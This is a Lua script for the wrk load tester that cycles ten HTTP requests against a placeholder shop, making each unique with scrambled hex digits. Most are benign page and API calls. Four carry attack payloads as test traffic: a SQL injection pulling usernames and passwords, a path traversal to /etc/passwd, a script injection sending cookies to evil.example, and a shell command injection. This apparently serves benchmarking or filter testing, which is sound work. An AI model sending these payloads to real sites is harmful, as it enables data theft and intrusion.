-- The ten requests of the repeated mix, each made unique by ten hexadecimal digits (wrk -s).
-- Ready-made text around the digits keeps the client cheap; their count is fixed, so that lengths stay true.
local agent = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
local common = {["Host"]="shop.example",["User-Agent"]=agent,["Accept"]="text/html,application/xhtml+xml",["Accept-Language"]="en-US,en;q=0.5",["Cookie"]="session=0af7651916cd43dd8448eb211c80319c; theme=dark"}
local function with(kind) local h = {} for k, v in pairs(common) do h[k] = v end h["Content-Type"] = kind return h end
local form, json = with("application/x-www-form-urlencoded"), with("application/json")
local mark = "0123456789"
local mix = {
  {"GET", "/?v="..mark, common}, {"GET", "/products/list?page="..mark.."&sort=price&dir=asc", common},
  {"GET", "/static/js/app."..mark..".js", common},
  {"POST", "/login?r="..mark, form, "username=alice&password=correct+horse&remember=1"},
  {"POST", "/api/v1/items/"..mark, json, '{"name":"green tea","qty":3,"tags":["hot","leaf"],"note":"please wrap"}'},
  {"GET", "/search?q=union+square+"..mark, common},
  {"GET", "/item.php?n="..mark.."&id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", common},
  {"GET", "/download?n="..mark.."&file=../../../../etc/passwd", common},
  {"POST", "/comment/"..mark, form, "text=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil.example%2F%27%2Bdocument.cookie%3C%2Fscript%3E"},
  {"GET", "/cgi-bin/ping?n="..mark.."&host=127.0.0.1;cat%20/etc/passwd", common},
}
local before, after, count = {}, {}, 0
local threads = 0
function setup(thread) thread:set("number", threads) threads = threads + 1 end
function init(args)
  local seed = tonumber(args[1]) or 0
  count = (seed * 64 + number) * 0x8000000 % 0x10000000000
  for i, r in ipairs(mix) do
    local whole = wrk.format(r[1], r[2], r[3], r[4])
    local at = whole:find(mark, 1, true)
    before[i], after[i] = whole:sub(1, at - 1), whole:sub(at + #mark)
  end
end
-- multiplied by an odd number modulo 2^40 in two halves: a permutation, so no two are alike, and the digits look random
local function scrambled(n)
  local low, high = n % 0x100000, math.floor(n / 0x100000)
  local product = low * 0x9E375
  return string.format("%05x%05x", (math.floor(product / 0x100000) + high * 0x9E375) % 0x100000, product % 0x100000)
end
local i = 0
function request()
  count = count + 1
  i = i % #mix + 1
  return before[i]..scrambled(count)..after[i]
end
